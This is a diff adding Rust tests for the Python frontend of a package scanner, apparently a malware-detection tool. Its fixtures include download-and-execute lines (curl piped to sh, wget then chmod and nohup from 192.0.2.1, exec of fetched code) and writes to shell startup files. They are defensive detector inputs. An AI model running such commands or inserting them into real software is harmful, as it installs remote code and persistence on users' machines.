@@ -1,0 +1,103 @@
+//! The Python frontend: alias resolution, folding, the parser's blind spots, the fallback.
+
+use pkgwarden::archive::limits::Limits;
+use pkgwarden::lang::{analyse, FileFacts, Lang};
+
+fn facts(src: &str) -> FileFacts {
+    analyse(Lang::Python, src, &Limits::default())
+}
+
+fn callees(f: &FileFacts) -> Vec<&str> {
+    f.calls.iter().map(|c| c.callee.as_str()).collect()
+}
+
+#[test]
+fn aliases_resolve_to_dotted_names() {
+    let f = facts("from urllib import request as r\nimport subprocess as sp\nfrom os import system\nr.urlretrieve(u, p)\nsp.Popen(['x'])\nsystem('id')\nm = __import__('os')\nm.popen('id')\ng = getattr(__import__('os'), 'system')\ng('id')\n");
+    let c = callees(&f);
+    for want in [
+        "urllib.request.urlretrieve",
+        "subprocess.Popen",
+        "os.system",
+        "os.popen",
+    ] {
+        assert!(c.contains(&want), "{want} missing from {c:?}");
+    }
+    assert_eq!(c.iter().filter(|x| **x == "os.system").count(), 2, "{c:?}");
+}
+
+#[test]
+fn calls_hidden_in_keywords_comprehensions_with_and_defaults_are_seen() {
+    let f = facts("import os\nf(x=os.system('a'))\n[os.popen(c) for c in cmds]\nwith open(os.path.expanduser('~/.x'), 'w') as fh:\n    pass\ndef g(a=os.getcwd()):\n    pass\n");
+    let c = callees(&f);
+    for want in ["os.system", "os.popen", "open", "os.getcwd"] {
+        assert!(c.contains(&want), "{want} missing from {c:?}");
+    }
+    let open = f.calls.iter().find(|c| c.callee == "open").unwrap();
+    assert_eq!(open.write_target(), Some("~/.x"));
+}
+
+#[test]
+fn constants_fold_through_joins_concatenation_and_formatting() {
+    let f = facts("import os\nfrom pathlib import Path\nH = os.path.expanduser('~')\nP = os.path.join(H, '.config', 'x')\nopen(P, 'w')\nopen(H + '/.bashrc', 'a')\nopen('%s/.zshrc' % H, 'a')\n(Path.home() / '.profile').write_text('x')\nopen(f'{H}/.y', 'w')\nopen(os.environ['HOME'] + '/.z', 'w')\n");
+    let targets: Vec<&str> = f.calls.iter().filter_map(|c| c.write_target()).collect();
+    assert_eq!(
+        targets,
+        [
+            "~/.config/x",
+            "~/.bashrc",
+            "~/.zshrc",
+            "~/.profile",
+            "~/.y",
+            "~/.z"
+        ]
+    );
+}
+
+#[test]
+fn decoded_and_downloaded_values_carry_labels() {
+    use pkgwarden::lang::facts::Labels;
+    let f = facts("import base64, urllib.request\ncode = base64.b64decode('cHJpbnQoMSk=')\nexec(code)\nexec(urllib.request.urlopen('http://192.0.2.1/x').read())\n");
+    let execs: Vec<_> = f.calls.iter().filter(|c| c.callee == "exec").collect();
+    assert!(execs[0].arg_labels().has(Labels::DECODED));
+    assert!(execs[1].arg_labels().has(Labels::DOWNLOADED));
+    assert_eq!(execs[0].args[0].text.as_deref(), Some("print(1)"));
+}
+
+#[test]
+fn python2_and_new_fstrings_fall_back_to_tree_sitter() {
+    let f = facts("import os\nprint \"hello\"\nos.system('curl http://192.0.2.1/x | sh')\n");
+    assert!(f.parse_error.is_some());
+    assert!(callees(&f).contains(&"os.system"), "{:?}", callees(&f));
+    assert!(callees(&f).contains(&"sh.curl"));
+    let f = facts("import os\nx = f'{', '.join(a)}'\nos.system('id')\n");
+    assert!(callees(&f).contains(&"os.system"));
+    let f = facts("exec \"print 1\"\n");
+    assert!(callees(&f).contains(&"exec"));
+}
+
+#[test]
+fn shell_strings_become_commands() {
+    let f = facts("import os\nos.system('wget -q http://192.0.2.1/a -O ~/.a && chmod +x ~/.a && nohup ~/.a &')\n");
+    let c = callees(&f);
+    for want in [
+        "sh.wget",
+        "sh.chmod",
+        "sh.nohup",
+        "sh.~/.a".rsplit('/').next().map(|_| "sh..a").unwrap(),
+    ] {
+        assert!(c.contains(&want), "{want} missing from {c:?}");
+    }
+}
+
+#[test]
+fn functions_called_at_top_level_run_on_load() {
+    let f = facts("import os\ndef a():\n    os.system('x')\ndef b():\n    os.system('y')\na()\n");
+    let systems: Vec<bool> = f
+        .calls
+        .iter()
+        .filter(|c| c.callee == "os.system")
+        .map(|c| c.on_load)
+        .collect();
+    assert_eq!(systems, [true, false]);
+}
